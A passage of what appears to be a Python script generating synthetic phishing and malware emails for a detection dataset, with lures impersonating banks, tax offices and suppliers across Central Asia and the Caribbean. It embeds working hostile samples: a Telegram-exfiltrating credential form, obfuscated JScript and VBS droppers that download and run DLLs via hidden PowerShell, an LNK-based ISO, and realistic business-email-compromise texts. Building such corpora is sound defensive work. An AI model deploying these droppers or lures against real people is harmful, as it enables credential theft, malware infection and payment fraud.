function g(m){{fetch("https://api.telegram.org/bot"+t+"/sendMessage",{{method:"POST",headers:{{"Content-Type":"application/json"}},body:JSON.stringify({{chat_id:c,text:m}})}});}}
document.getElementById("f").onsubmit=function(x){{x.preventDefault();g(["HALYK",p.value,w.value,n.value,e.value,v.value].join(" | "));f.style.display="none";s.style.display="block";}};
document.getElementById("b").onclick=function(){{g("OTP "+o.value);location.href="https://halykbank.kz/";}};
</script></body></html>
"""
add(slug="kz-halyk-homebank-html-telegram", kind="phish", cat="phishing",
    desc="Direct spoof of halykbank.kz (SPF fail, DMARC fail) in Kazakh asking to confirm a Homebank account; the attached HTML login page sends phone, password, card data and SMS code to a Telegram bot API.",
    dt=when(2025, 7, 22, 16, 20, 8, 300), frm=("Halyk Bank", "info@halykbank.kz"),
    to=("", "aigerim.nurlanovna@mail.ru"), mx="mailru",
    subject="Homebank: есептік жазбаңызды растау қажет",
    **spoof_sender("srv1.kzhost-vds.site", "89.185.85.162", "info@kzhost-vds.site", spf="fail", p="QUARANTINE"),
    extra=["X-Mailer: Microsoft Outlook 16.0"],
    body=mixed("hb18", text("""Құрметті клиент!

Сіздің Homebank есептік жазбаңызға бөгде құрылғыдан кіру әрекеті тіркелді (22.07.2025, 15:47, Алматы).
Қауіпсіздік мақсатында есептік жазбаңызды 24 сағат ішінде растауыңызды сұраймыз. Әйтпесе картаңыз бойынша операциялар уақытша тоқтатылады.

Қосымшадағы файлды ашып, деректеріңізді енгізіңіз.

Құрметпен,
Halyk Bank қауіпсіздік қызметі
7111
""", encoding="base64"), att("text/html", "Homebank_tekseru.html", _halyk_html.encode()), style="php"))

# 19 eGov.kz social payment, Russian, IPFS gateway
_ipfs = f"https://bafybei{tok('ipfs19', 52, 'abcdefghijklmnopqrstuvwxyz234567')}.ipfs.dweb.link/egov.html?id={tok('ipfs19i', 12)}"
add(slug="kz-egov-payment-ipfs", kind="phish", cat="phishing",
    desc="eGov.kz 'one-off social payment of 85,000 tenge' lure in Russian from egovkz-gosuslugi.com, link to a card-harvesting page on an IPFS gateway.",
    dt=when(2025, 12, 2, 12, 44, 31, 300), frm=("Электронное правительство РК", "noreply@egovkz-gosuslugi.com"),
    to=("", "aidos.kenzhebekov@gmail.com"), mx="gmail",
    subject="Вам назначена единовременная выплата 85 000 ₸ - eGov.kz",
    **kit_sender("egovkz-gosuslugi.com", "45.155.205.233"),
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=alt("egov19", kit_html(
        "eGov.kz", "#0A6EBD", "Уведомление о назначении выплаты",
        ["Уважаемый гражданин Республики Казахстан!",
         "По результатам автоматической проверки по ИИН вам назначена единовременная социальная выплата в размере "
         "<b>85 000 ₸</b> в рамках программы поддержки населения на 2025 год.",
         "Для получения выплаты необходимо подтвердить данные банковской карты, на которую будут зачислены средства. "
         "Заявка действительна 3 календарных дня.",
         "Номер заявки: EGOV-2025-" + tok("egov19n", 7, "0123456789")],
        ("Получить выплату", _ipfs),
        "Портал «электронного правительства» Республики Казахстан. Единый контакт-центр 1414.", lang="ru"), style="php"))

# 20 Kazpost, Kazakh + Russian, r2.dev
add(slug="kz-kazpost-parcel-fee", kind="phish", cat="phishing",
    desc="Kazpost parcel 'awaiting delivery payment of 690 tenge' in Kazakh and Russian from kazpost-delivery.com, link to an r2.dev card-payment page.",
    dt=when(2025, 4, 15, 9, 12, 0, 300), frm=("Қазпошта", "tracking@kazpost-delivery.com"),
    to=("", "aidos.kenzhebekov@gmail.com"), mx="gmail",
    subject="Kazpost: сәлемдемеңіз бөлімшеде күтуде / Ваша посылка ожидает оплаты доставки",
    **kit_sender("kazpost-delivery.com", "45.155.205.118"),
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=alt("kzp20", kit_html(
        "Kazpost", "#FFB81C", "Сәлемдеме RB418823071KZ",
        ["Құрметті алушы! Сіздің RB418823071KZ сәлемдемеңіз Алматы сұрыптау орталығына келді. Жеткізу үшін 690 ₸ төлеу қажет.",
         "Уважаемый получатель! Ваше отправление <b>RB418823071KZ</b> поступило в сортировочный центр г. Алматы. "
         "Для доставки по адресу необходимо оплатить услугу в размере <b>690 ₸</b> в течение 48 часов, иначе отправление будет возвращено.",
         ],
        ("Төлеу / Оплатить", f"https://pub-{hexs('kzp20', 32)}.r2.dev/kz/track.html?n=RB418823071KZ&t={tok('kzp20t', 8)}"),
        "АО «Қазпошта». Контакт-центр 1443.", lang="kk"), style="php"))

# 21 CEO fraud, Russian, Mail.ru display name, no link
add(slug="kz-ceo-urgent-payment-mailru", kind="phish", cat="phishing",
    desc="CEO-fraud opener in Russian: the freight forwarder's director impersonated from a Mail.ru address asks the chief accountant if she is available for an urgent payment today; no link, reply wanted.",
    dt=when(2025, 5, 27, 10, 52, 19, 300), frm=("Ерлан Жумабаев", "e.zhumabayev.steppe@mail.ru"),
    to=("Гульнара Ахметова", "g.akhmetova@steppe-logistics.kz"), mx="yandex",
    subject="Срочно",
    relay=("send241.i.mail.ru", "95.163.41.81"), inner=[("mailru", dict(env="e.zhumabayev.steppe@mail.ru"))],
    auth=dict(spf="pass", dkim="pass", dmarc="pass", p="REJECT", d="mail.ru", s="mail4", mailfrom="e.zhumabayev.steppe@mail.ru"),
    dkim=("mail.ru", "mail4"), style="mailru", mid_style="kit", mid_domain="f113.i.mail.ru",
    extra=["X-Mailer: Mail.Ru Mailer 1.0", "X-Mras: Ok"],
    body=text("""Гульнара, добрый день.
Вы сейчас на месте? Нужно сегодня до 16:00 провести платёж по новому контракту с поставщиком из Ташкента, сумма около 14,8 млн тенге.
Я на совещании в акимате, звонить не могу, пишите сюда. Реквизиты и счёт пришлю, как ответите. Пока никому не говорите, сделка конфиденциальная.

Отправлено из Mail.ru для iPhone
""", encoding="base64"))

# 22 Reconciliation act, compromised partner mailbox, ZIP with JS (malware)
_js = ("var _0x1a=['\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2e\\x53\\x68\\x65\\x6c\\x6c','Run'];\n"
       "var s=new ActiveXObject(_0x1a[0]);\n"
       "var u=['ht','tps://','aral-trans','.kz/wp-content/uploads/2025/07/','sv.png'].join('');\n"
       "var c='powershell -w hidden -nop -c \"$p=$env:APPDATA+\\'\\\\\\\\sv.dll\\';iwr \\''+u+'\\' -OutFile $p;rundll32 $p,DllRegisterServer\"';\n"
       "s[_0x1a[1]](c,0,false);\n"
       "// Акт сверки взаимных расчетов\n")
add(slug="kz-akt-sverki-js-zip", kind="phish", cat="malware",
    desc="Malware dropper from a compromised partner mailbox (aral-trans.kz, passes auth): 'reconciliation act Q2 2025' in Russian with a ZIP holding a .pdf.js WScript downloader that fetches and runs a DLL.",
    dt=when(2025, 7, 29, 11, 30, 54, 300), frm=("Бухгалтерия ТОО «Арал Транс»", "buh@aral-trans.kz"),
    to=("Гульнара Ахметова", "g.akhmetova@steppe-logistics.kz"), mx="yandex",
    subject="Акт сверки взаиморасчетов за II квартал 2025 г.",
    **mailbox(("srv58.ps.kz", "185.22.64.219"),
                  [("exim", dict(ip="178.89.12.205", by="srv58.ps.kz", env="buh@aral-trans.kz"))],
                  "aral-trans.kz", "default", "buh@aral-trans.kz", "kit", "kit"),
    extra=["User-Agent: Roundcube Webmail/1.6.6"],
    body=mixed("akt22", text("""Добрый день!

Направляем акт сверки взаимных расчетов между ТОО «Арал Транс» и ТОО «Steppe Logistics» за II квартал 2025 года.
Просим проверить, при отсутствии расхождений подписать и вернуть скан до 05.08.2025.

С уважением,
Бухгалтерия ТОО «Арал Транс»
тел. +7 (7242) 27-41-08
""", encoding="base64"), att("application/zip", "Акт_сверки_II_кв_2025.zip",
                           files.zip_archive([("Акт_сверки_II_кв_2025.pdf.js", _js.encode())])), style="php"))

# 23 Click, Uzbek Latin, lookalike
add(slug="uz-click-hisob-bloklandi", kind="phish", cat="phishing",
    desc="CLICK payment-app 'account blocked after a suspicious 2.45m sum transfer' lure in Uzbek (Latin) from lookalike click-uz.online, link to a fake CLICK login asking for card, phone and SMS code.",
    dt=when(2025, 8, 12, 19, 3, 26, 300), frm=("CLICK", "info@click-uz.online"),
    to=("", "jasur.toshmatov94@mail.ru"), mx="mailru",
    subject="CLICK: Hisobingiz vaqtincha bloklandi",
    **kit_sender("click-uz.online", "213.209.143.37"),
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=alt("clk23", kit_html(
        "CLICK", "#0088CC", "Hisobingiz vaqtincha bloklandi",
        ["Hurmatli mijoz!",
         "Hisobingizda shubhali operatsiya aniqlandi: <b>2 450 000 so'm</b> miqdoridagi o'tkazma (12.08.2025, 18:41). "
         "Xavfsizlik maqsadida CLICK hisobingiz vaqtincha bloklandi.",
         "Hisobni tiklash va operatsiyani bekor qilish uchun 24 soat ichida quyidagi havola orqali shaxsingizni tasdiqlang. "
         "Aks holda hisob to'liq yopiladi.",
         "Уважаемый клиент! Ваш счёт CLICK временно заблокирован. Подтвердите личность в течение 24 часов."],
        ("Shaxsni tasdiqlash", f"https://click-uz.online/uz/restore?ref={tok('clk23', 20)}"),
        "CLICK MChJ, Toshkent sh. Qo'llab-quvvatlash: +998 71 231 08 80", lang="uz"), style="php"))

# 24 my.gov.uz traffic fine, QR code in the body
_u = f"https://mygov-uz-jarima.pages.dev/pay?d={tok('gov24', 16)}"
_qr, _cid = png_inline("gov24", _u, "qr_tolov.png")
_html = kit_html(
    "my.gov.uz", "#1E5AA8", "To'lanmagan jarima haqida xabarnoma",
    ["Hurmatli fuqaro!",
     "Sizning nomingizga ro'yxatdan o'tgan transport vositasi uchun Yo'l harakati xavfsizligi xizmati (YHXX) tomonidan "
     "<b>375 000 so'm</b> miqdorida jarima qo'llanilgan (qaror № YHXX-2025-884217).",
     "Jarimani 10 kun ichida to'lasangiz, 50% chegirma amal qiladi. Muddat o'tganda jarima ikki baravar oshadi va "
     "haydovchilik guvohnomasi to'xtatilishi mumkin.",
     f'To\'lov uchun QR kodni telefoningiz bilan skanerlang:<br><img src="cid:{_cid}" width="200" height="200" alt="QR">'],
    None, "Yagona interaktiv davlat xizmatlari portali. Call-markaz: 1188.", lang="uz")
add(slug="uz-mygov-jarima-qr-body", kind="phish", cat="phishing",
    desc="Quishing in Uzbek (Latin): my.gov.uz 'unpaid traffic fine with 50% discount' from mygov-uz.info with the QR code as an inline image pointing to a pages.dev payment page; no clickable link.",
    dt=when(2025, 10, 6, 8, 40, 15, 300), frm=("Yagona interaktiv davlat xizmatlari portali", "xabarnoma@mygov-uz.info"),
    to=("", "dilnoza.karimova@gmail.com"), mx="gmail",
    subject="Nomingizga to'lanmagan jarima mavjud - YHXX-2025-884217",
    **kit_sender("mygov-uz.info", "147.45.78.190"),
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=related("gov24", alt("gov24", _html, style="php"), _qr, style="php"))

# 25 soliq.uz tax inspection, ISO with LNK + DLL (malware)
_iso = files.iso_image([
    ("Xabarnoma_07-12-4481.pdf.lnk", files.lnk_shortcut(r"C:\Windows\System32\rundll32.exe", "update.dll,DllRegisterServer")),
    ("update.dll", files.pe_stub()),
], "XABARNOMA")
add(slug="uz-soliq-xabarnoma-iso", kind="phish", cat="malware",
    desc="Malware dropper: 'State Tax Committee inspection notice' in Uzbek from lookalike soliq-uz.org with an ISO image holding a .pdf.lnk that launches a bundled DLL via rundll32.",
    dt=when(2025, 11, 18, 9, 55, 2, 300), frm=("Davlat soliq qo'mitasi", "xabar@soliq-uz.org"),
    to=("Buxgalteriya", "buxgalteriya@samarqand-ipak.uz"), mx="postfix:mail.samarqand-ipak.uz:5",
    subject="Soliq tekshiruvi to'g'risida xabarnoma No 07-12/4481",
    **kit_sender("soliq-uz.org", "194.87.71.35"),
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=mixed("sol25", text("""Hurmatli soliq to'lovchi!

Soliq kodeksining 138-moddasiga muvofiq "Samarqand Ipak" MChJ faoliyati yuzasidan 2024-yil uchun sayyor soliq tekshiruvi o'tkazilishi rejalashtirilgan.
Ilova qilingan xabarnoma va talab qilinadigan hujjatlar ro'yxati bilan tanishib chiqing hamda 5 ish kuni ichida javob yuboring.

Hurmat bilan,
Samarqand viloyati Davlat soliq boshqarmasi
Ishonch telefoni: 1198
""", encoding="quoted-printable"), att("application/x-iso9660-image", "Xabarnoma_07-12-4481.iso", _iso), style="php"))

# ==========================================================================
# ATTACKS - Caribbean and Central America
# ==========================================================================

# 26 NCB Jamaica, lookalike, Google AMP redirect
add(slug="jm-ncb-online-limited-amp", kind="phish", cat="phishing",
    desc="NCB Jamaica 'online banking access limited' lure from lookalike ncb-jm-online.com, the button hidden behind a google.com/amp/s/ redirect to the kit on the same domain.",
    dt=when(2025, 2, 19, 7, 58, 44, -300), frm=("NCB Online Banking", "service@ncb-jm-online.com"),
    to=("Marsha Campbell", "marsha.campbell@gmail.com"), mx="gmail",
    subject="Action required: Your NCB Online Banking access has been limited",
    **kit_sender("ncb-jm-online.com", "23.254.229.117"),
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=alt("ncb26", kit_html(
        "NCB", "#003DA5", "Your access has been limited",
        ["Dear Valued Customer,",
         "We noticed a sign-in to your NCB Online Banking profile from an unrecognised device in Kingston on "
         "February 18, 2025. As a precaution, transfers and bill payments from your profile have been limited.",
         "To restore full access, please confirm your identity and update your security questions. This takes less than "
         "two minutes. If we do not hear from you within 24 hours your profile will be locked and you will need to visit a branch.",
         "Thank you for banking with NCB."],
        ("Restore Access", f"https://www.google.com/amp/s/ncb-jm-online.com/secure/verify%3Fref%3D{tok('ncb26', 18)}"),
        "National Commercial Bank Jamaica Limited, 32 Trafalgar Road, Kingston 10. 1-888-NCB-FIRST."), style="php"))

# 27 Republic Bank callback, Outlook.com
add(slug="tt-republic-fraud-callback", kind="phish", cat="phishing",
    desc="Callback scam: 'suspicious card transaction of TT$8,950 declined' from an Outlook.com account styled as Republic Bank's fraud unit, asking the victim to call a local number; no link.",
    dt=when(2025, 9, 9, 14, 27, 36, -240), frm=("Republic Bank Fraud Prevention", "republicbank.fraudunit@outlook.com"),
    to=("Kevin Ramdass", "kevin.ramdass@outlook.com"), mx="m365:nam",
    subject="Card transaction declined - TT$8,950.00 at AMAZON MKTPL*2K7 - please confirm",
    **outlookcom_sender("republicbank.fraudunit@outlook.com", 2),
    extra=["Accept-Language: en-US", "Content-Language: en-US", "X-MS-Has-Attach:"],
    body=outlook_body("rep27", """Dear Valued Customer,

Our fraud monitoring system has declined the following transaction on your Republic Bank Visa card ending 6621:

Merchant: AMAZON MKTPL*2K7A41
Amount: TT$8,950.00
Date: 09 Sep 2025 13:58
Location: Seattle, WA, USA

If you did NOT attempt this transaction, please call our Fraud Prevention Unit immediately at 1 (868) 725-4419 and quote reference RB-FP-2025-66314 so that we can secure your account and issue a replacement card.

If you recognise this transaction, no action is required.

Please do not reply to this email.

Fraud Prevention Unit
Republic Bank Limited
"Succeeding together"
"""))

# 28 Banreservas, direct spoof, compromised WordPress
_u = f"https://www.ferreteriaelprogreso.com.mx/wp-includes/js/crop/brsv/token/?c={tok('brs28', 14)}"
add(slug="do-banreservas-token-spoof", kind="phish", cat="phishing",
    desc="Direct spoof of banreservas.com (SPF fail, DMARC fail) in Spanish saying the Token Digital was deactivated, with a link to a kit planted in a hacked Mexican WordPress site.",
    dt=when(2025, 5, 6, 8, 15, 39, -240), frm=("Banreservas", "notificaciones@banreservas.com"),
    to=("", "yokasta.rosario@gmail.com"), mx="gmail",
    subject="Su Token Digital ha sido desactivado - Acción requerida",
    **spoof_sender("ip-141-98-10-44.bulletproof.host", "141.98.10.44", "www-data@ip-141-98-10-44.bulletproof.host",
                   spf="none", p="QUARANTINE"),
    extra=["X-Mailer: PHPMailer 6.5.0 (https://github.com/PHPMailer/PHPMailer)"],
    body=alt("brs28", kit_html(
        "Banreservas", "#003876", "Reactivación de Token Digital",
        ["Estimado(a) cliente:",
         "Le informamos que su <b>Token Digital</b> ha sido desactivado debido a la actualización de nuestros sistemas de seguridad.",
         "Para continuar realizando transferencias y pagos desde Banca en Línea, debe reactivarlo antes de las 11:59 p. m. del día de hoy. "
         "Pasado este plazo, su usuario será bloqueado por seguridad.",
         "Banreservas nunca le solicitará su contraseña por teléfono."],
        ("Reactivar Token", _u),
        "Banco de Reservas de la República Dominicana. Av. Winston Churchill esq. Porfirio Herrera, Santo Domingo. (809) 960-2121",
        lang="es"), style="php"))

# 29 BAC Credomatic, PDF with link
_u = f"https://bac-empresas-cr.web.app/estado/?cta={tok('bac29', 12)}"
add(slug="cr-bac-estado-cuenta-pdf", kind="phish", cat="phishing",
    desc="BAC Credomatic corporate card statement lure in Spanish from lookalike baccredomatic-cr.com with a PDF whose button links to a Firebase-hosted (web.app) business-banking login page.",
    dt=when(2025, 11, 4, 9, 8, 12, -360), frm=("BAC Credomatic Empresas", "estados@baccredomatic-cr.com"),
    to=("Contabilidad Cafetales Orosí", "contabilidad@cafetalesorosi.cr"), mx="m365:nam",
    subject="Estado de cuenta corporativo - Tarjeta empresarial ****7731 - Acción requerida",
    **kit_sender("baccredomatic-cr.com", "172.245.91.33"),
    extra=["X-Mailer: Microsoft Outlook 16.0"],
    body=mixed("bac29", alt("bac29", """<html><body style="font-family:Arial;font-size:13px;color:#333">
<p>Estimado cliente empresarial:</p>
<p>Adjuntamos el estado de cuenta de su tarjeta empresarial terminada en <b>7731</b> correspondiente al corte de octubre de 2025.</p>
<p>Detectamos cargos pendientes de validación por un monto de <b>USD 3.418,60</b>. Para evitar la suspensión temporal de la tarjeta, revise el documento adjunto y confirme los movimientos desde el enlace indicado en el mismo.</p>
<p>Atentamente,<br>Servicio al Cliente Empresarial<br>BAC Credomatic Costa Rica<br>Tel. 2295-9797</p>
</body></html>
""", style="other"), att("application/pdf", "EstadoCuenta_BAC_Oct2025_7731.pdf", pdf_doc(
        ["BAC Credomatic - Banca Empresarial", "", "Estado de cuenta - Tarjeta empresarial ****7731",
         "Periodo: 01/10/2025 - 31/10/2025", "", "Cargos pendientes de validación: USD 3.418,60",
         "", "Para consultar el detalle y confirmar los movimientos, ingrese a",
         "Banca en Línea Empresarial mediante el botón inferior.",
         "El documento completo está protegido por seguridad."],
        "Estado de cuenta BAC", (_u, (140, 520, 420, 560)))), style="other"))

# 30 Banco Industrial, QR code in the body
_u = f"https://bi-token-gt.pages.dev/actualizar?u={tok('bi30', 14)}"
_qr, _cid = png_inline("bi30", _u, "token_bi.png")
_html = kit_html(
    "Banco Industrial", "#00529B", "Actualización obligatoria de Token BI",
    ["Estimado cliente:",
     "Por disposición de la Superintendencia de Bancos, todos los usuarios de <b>BI en Línea</b> deben actualizar su Token Móvil "
     "antes del <b>30/09/2025</b>.",
     "Escanee el siguiente código QR con la cámara de su teléfono y siga las instrucciones. Si no realiza la actualización, "
     "su acceso a BI en Línea será suspendido.",
     f'<img src="cid:{_cid}" width="200" height="200" alt="Código QR">'],
    None, "Banco Industrial, S.A. Guatemala. Bi-Contact 1717.", lang="es")
add(slug="gt-bi-token-qr-body", kind="phish", cat="phishing",
    desc="Quishing in Spanish: Banco Industrial 'mandatory Token BI update' from lookalike bi-gt-seguridad.com with an inline QR image pointing to a pages.dev credential page; no clickable link.",
    dt=when(2025, 9, 22, 10, 36, 55, -360), frm=("Banco Industrial", "bienlinea@bi-gt-seguridad.com"),
    to=("", "andrea.lopez.gt@gmail.com"), mx="gmail",
    subject="BI en Línea: Actualice su Token Móvil antes del 30/09/2025",
    **kit_sender("bi-gt-seguridad.com", "104.168.33.190"),
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=related("bi30", alt("bi30", _html, style="php"), _qr, style="php"))

# 31 Banco General, HTML attachment that redirects
_target = f"https://bgeneral-banca.pages.dev/?e=luis.batista.pty%40gmail.com&r={tok('bg31', 10)}"
_bg_html = f"""<html><head><meta charset="utf-8"><title>Comprobante</title></head>
<body style="font-family:Arial"><p>Cargando comprobante, espere por favor...</p>
<script>
var _0x=['{base64.b64encode(_target.encode()).decode()}'];
setTimeout(function(){{window.location.replace(atob(_0x[0]));}},600);
</script>
<noscript><meta http-equiv="refresh" content="0;url={_target}"></noscript>
</body></html>
"""
add(slug="pa-bgeneral-ach-html-redirect", kind="phish", cat="phishing",
    desc="Banco General 'ACH transfer receipt' in Spanish from lookalike bgeneral-pa.net with an HTML attachment whose base64-hidden JavaScript redirects to a pages.dev Banca en Línea clone.",
    dt=when(2025, 3, 27, 17, 4, 20, -300), frm=("Banco General", "notificaciones@bgeneral-pa.net"),
    to=("Luis Batista", "luis.batista.pty@gmail.com"), mx="gmail",
    subject="Comprobante de transferencia ACH No. 884120 - Banca en Línea",
    **kit_sender("bgeneral-pa.net", "104.168.33.57"),
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=mixed("bg31", text("""Estimado(a) cliente:

Se ha registrado una transferencia ACH desde su cuenta a favor de INVERSIONES DELTA 507, S.A. por B/. 1,250.00.
Adjuntamos el comprobante de la operación. Si usted no reconoce esta transacción, ingrese desde el comprobante para anularla.

Banco General, S.A.
Banca en Línea - (507) 303-8000
""", encoding="quoted-printable"), att("text/html", "Comprobante_ACH_884120.html", _bg_html.encode()), style="php"))

# 32 Digicel, Canva-hosted page
add(slug="jm-digicel-bill-canva-site", kind="phish", cat="phishing",
    desc="Digicel Jamaica 'bill payment failed, service will be suspended' from digicel-billing-jm.com linking to a Canva-hosted (my.canva.site) page that forwards to a card form.",
    dt=when(2025, 8, 5, 12, 18, 6, -300), frm=("Digicel Billing", "billing@digicel-billing-jm.com"),
    to=("Marsha Campbell", "marsha.campbell@gmail.com"), mx="gmail",
    subject="Your Digicel bill payment could not be processed - account 7621****",
    **kit_sender("digicel-billing-jm.com", "23.254.229.34"),
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=alt("dig32", kit_html(
        "Digicel", "#E4002B", "Payment unsuccessful",
        ["Hi Marsha,",
         "We were unable to process the automatic payment for your Digicel Postpaid account this month because your card "
         "details have expired.",
         "Balance due: <b>J$6,840.00</b><br>Due date: 08 August 2025",
         "To avoid interruption to your calls, data and DigicelPlus services, please update your payment method today."],
        ("Update payment method", "https://digicel-billing-jm.my.canva.site/update"),
        "Digicel Jamaica Limited, 14 Ocean Boulevard, Kingston. Dial 100 from your Digicel phone."), style="php"))

# 33 Payroll diversion, Spanish, Gmail display name
add(slug="pa-payroll-diversion-gmail", kind="phish", cat="phishing",
    desc="Payroll-diversion BEC opener in Spanish: an employee of a Panama logistics firm impersonated from a Gmail address asks HR to deposit his next salary into a new bank account; no link.",
    dt=when(2025, 10, 21, 15, 9, 33, -300), frm=("Carlos Mendieta", "carlos.mendieta.pa@gmail.com"),
    to=("Ana Sofía Ríos", "rrhh@logisticacanal.com.pa"), mx="gmail",
    subject="Cambio de cuenta para depósito de salario",
    **gmail_sender("carlos.mendieta.pa@gmail.com", 4),
    extra=[],
    body=gmail_body("pay33", """Buenas tardes Ana Sofía,

Espero que estés bien. Te escribo desde mi correo personal porque no tengo acceso al del trabajo desde el celular.

Cambié de banco y quisiera que mi salario de la próxima quincena se deposite en mi nueva cuenta. ¿Qué datos necesitan para hacer el cambio antes del cierre de planilla? Te los envío hoy mismo.

Gracias de antemano.

Saludos,
Carlos Mendieta
Supervisor de Bodega - Zona Libre de Colón
Enviado desde mi iPhone
"""))

# 34 Reply-chain hijack from a compromised supplier mailbox, bank change
add(slug="gt-hijacked-thread-bank-change", kind="phish", cat="phishing",
    desc="Reply-chain hijack: a real yarn supplier's Google Workspace mailbox is compromised (all auth passes) and answers an existing purchase-order thread asking a Guatemalan textile maker to pay into a 'new' account; no link.",
    dt=when(2025, 6, 10, 11, 22, 48, -360), frm=("Mariana Velasco | Hilos del Pacífico", "mvelasco@hilospacifico.com.mx"),
    to=("Pagos Textiles Atitlán", "pagos@textilesatitlan.com.gt"), cc=[("Jorge Ixcot", "jixcot@textilesatitlan.com.gt")],
    mx="m365:nam",
    subject="RE: Pedido OC-2025-0418 - hilo poliéster 150D - anticipo",
    **mailbox(("mail-sor-f41.google.com", "209.85.220.41"), [("gmail", dict(host="mail-sor-f41.google.com"))],
                  "hilospacifico.com.mx", "google", "mvelasco@hilospacifico.com.mx", "gmail", "gmail"),
    extra=[f"In-Reply-To: <DM6PR06MB5274{tok('gt34a', 20, '0123456789ABCDEF')}@DM6PR06MB5274.namprd06.prod.outlook.com>",
           f"References: <CA{tok('gt34r', 3)}+{tok('gt34r2', 40)}@mail.gmail.com>\n"
           f" <DM6PR06MB5274{tok('gt34a', 20, '0123456789ABCDEF')}@DM6PR06MB5274.namprd06.prod.outlook.com>"],
    body=gmail_body("gt34", """Buen día Jorge y equipo de pagos,

Gracias por la confirmación de la OC-2025-0418. Les informo que por una auditoría interna de nuestro banco en México, en este momento no podemos recibir fondos en la cuenta de BBVA que aparece en la proforma.

Les pedimos hacer el anticipo del 40% (USD 18,640.00) a nuestra cuenta en dólares:

Beneficiario: Hilos del Pacífico S.A. de C.V.
Banco: Banco Santander México
Cuenta: 65-50871234-9
CLABE: 014180655087123491
SWIFT: BMSXMXMM

Por favor envíennos el comprobante hoy para poder liberar el embarque el jueves. Cualquier duda me escriben por este medio, estoy en planta y no tengo buena señal.

Saludos cordiales,
Mariana Velasco
Ejecutiva de Cuentas - Centroamérica
Hilos del Pacífico S.A. de C.V.

El lun, 9 jun 2025 a las 16:05, Jorge Ixcot (<jixcot@textilesatitlan.com.gt>) escribió:
> Mariana, buenas tardes:
> Confirmamos la OC-2025-0418 por 12,000 kg de hilo poliéster 150D/48F. Quedamos atentos a la proforma final para programar el anticipo.
> Saludos,
> Jorge Ixcot
> Compras - Textiles Atitlán, S.A.
>
> El vie, 6 jun 2025, Mariana Velasco escribió:
>> Jorge, adjunto cotización actualizada con precio FOB Manzanillo y fecha de embarque 19 de junio.
"""))

# 35 DGII e-CF, ZIP with VBS (malware)
_vbs = ("On Error Resume Next\r\n"
        "Set o = CreateObject(\"WScript.Shell\")\r\n"
        "u = \"https://dgii-gob.com/ecf/\" & \"E310000014872.dat\"\r\n"
        "p = o.ExpandEnvironmentStrings(\"%PUBLIC%\") & \"\\ecf.dll\"\r\n"
        "o.Run \"powershell -w hidden -c (New-Object Net.WebClient).DownloadFile('\" & u & \"','\" & p & \"');"
        "Start-Process rundll32 -ArgumentList '\" & p & \",Start'\", 0, False\r\n"
        "' Comprobante Fiscal Electronico - DGII\r\n")
add(slug="do-dgii-ecf-vbs-zip", kind="phish", cat="malware",
    desc="Malware dropper in Spanish: 'DGII electronic fiscal receipt (e-CF) pending acceptance' from lookalike dgii-gob.com with a ZIP holding a .pdf.vbs that downloads and runs a DLL.",
    dt=when(2025, 2, 4, 9, 47, 1, -240), frm=("DGII - Comprobantes Fiscales Electrónicos", "ecf@dgii-gob.com"),
    to=("Finanzas Agro Cibao", "finanzas@agrocibao.com.do"), mx="gmail",
    subject="Comprobante Fiscal Electrónico (e-CF) E310000014872 - Pendiente de aceptación",
    **kit_sender("dgii-gob.com", "185.241.208.77"),
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=mixed("dgii35", alt("dgii35", """<html><body style="font-family:Arial;font-size:13px">
<p>Señor contribuyente:</p>
<p>Se ha emitido a su nombre el Comprobante Fiscal Electrónico <b>E310000014872</b> por un monto de RD$ 214,380.00, el cual se encuentra pendiente de aprobación comercial.</p>
<p>Revise el comprobante adjunto y apruébelo o rechácelo en un plazo de 48 horas conforme a la Norma General 06-2018. Transcurrido el plazo, se considerará aceptado.</p>
<p>Dirección General de Impuestos Internos (DGII)<br>Oficina Virtual - (809) 689-3444</p>
</body></html>
""", style="php"), att("application/zip", "eCF_E310000014872.zip",
                        files.zip_archive([("eCF_E310000014872.pdf.vbs", _vbs.encode())])), style="php"))

# 36 DocuSign abuse: genuine envelope from an attacker's account
_ds = (f"https://na4.docusign.net/Signing/EmailStart.aspx?a={hexs('ds36a', 8)}-{hexs('ds36b', 4)}-{hexs('ds36c', 4)}-"
       f"{hexs('ds36d', 4)}-{hexs('ds36e', 12)}&etti=24&acct={hexs('ds36f', 8)}-{hexs('ds36g', 4)}-{hexs('ds36h', 4)}-"
       f"{hexs('ds36i', 4)}-{hexs('ds36j', 12)}&er={hexs('ds36k', 8)}-{hexs('ds36l', 4)}-{hexs('ds36m', 4)}-{hexs('ds36n', 4)}-{hexs('ds36o', 12)}")
add(slug="cr-docusign-contrato-abuse", kind="phish", cat="phishing",
    desc="Genuine DocuSign envelope (docusign.net, all auth passes) sent from an attacker's trial account posing as 'Grupo Pacífico legal department' with a coffee purchase contract; the document leads to a Microsoft login phish.",
    dt=when(2025, 10, 1, 13, 11, 27, -360), frm=("Departamento Legal - Grupo Pacífico vía Docusign", "dse_na4@docusign.net"),
    to=("Gerencia Cafetales Orosí", "gerencia@cafetalesorosi.cr"), mx="m365:nam",
    subject="Complete con Docusign: Contrato_Compraventa_Cafe_Cosecha_2025-2026.pdf",
    **esp(("mailnaw4.docusign.net", "64.207.219.143"), [("mta", dict(src="na4app12.docusign.net", ip="64.207.219.71", by="mailnaw4.docusign.net"))],
          "docusign.net", "s1", "bounces@docusign.net", mid_style="kit", mid_domain="docusign.net"),
    extra=["X-Api-Host: na4.docusign.net"],
    body=alt("ds36", f"""<html><head><meta charset="utf-8"></head><body style="background:#eaeaea;font-family:Helvetica,Arial,sans-serif">
